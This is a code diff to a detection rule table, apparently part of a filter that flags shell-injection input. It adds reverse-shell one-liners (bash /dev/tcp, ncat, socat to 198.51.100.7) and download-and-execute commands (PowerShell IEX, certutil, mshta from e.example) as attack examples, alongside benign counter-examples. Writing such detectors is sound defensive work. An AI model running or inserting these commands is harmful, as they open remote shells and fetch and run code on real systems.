@@ -35,7 +35,8 @@ RULES = (
     ),
     Rule(
         "LG-SHELL-005", _FAMILY, "reverse shell or decoded script", cwe=78, capec=88, severity="critical",
-        attacks=("bash -i >& /dev/tcp/198.51.100.7/443 0>&1", "echo aWQ= | base64 -d | sh", "python3 -c 'import socket,os'", "ncat 198.51.100.7 9 -e /bin/sh"),
+        attacks=("bash -i >& /dev/tcp/198.51.100.7/443 0>&1", "echo aWQ= | base64 -d | sh", "python3 -c 'import socket,os'", "ncat 198.51.100.7 9 -e /bin/sh",
+            "ruby -rsocket -e'c=TCPSocket.new(1)'", "php -r '$s=fsockopen(1,2);'", "socat tcp:198.51.100.7:9 exec:sh"),
         benign=(("body", "echo aGVsbG8= | base64 -d > hello.txt"), ("body", "nc -zv db.example 5432 tells whether the port is open")),
     ),
     Rule(
@@ -50,8 +51,9 @@ RULES = (
     ),
     Rule(
         "LG-SHELL-008", _FAMILY, "PowerShell or cmd.exe one-liner", cwe=78, capec=88, severity="critical",
-        attacks=("powershell -enc ZQBjAGgAbwAgAGgAaQA=", "%COMSPEC% /c dir", "IEX (New-Object Net.WebClient).DownloadString('http://e.example/x')"),
-        benign=(("body", "Open PowerShell and type Get-Help to learn more"),),
+        attacks=("powershell -enc ZQBjAGgAbwAgAGgAaQA=", "%COMSPEC% /c dir", "IEX (New-Object Net.WebClient).DownloadString('http://e.example/x')",
+            "certutil -urlcache -f http://e.example/a a.exe", "mshta http://e.example/a.hta", "powershell -c $c=New-Object Net.Sockets.TCPClient(1)"),
+        benign=(("body", "Open PowerShell and type Get-Help to learn more"), ("body", "certutil -hashfile setup.exe SHA256")),
     ),
     Rule(
         "LG-SHELL-011", _FAMILY, "command in the midst of text", cwe=78, capec=88, severity="medium", confidence="medium",
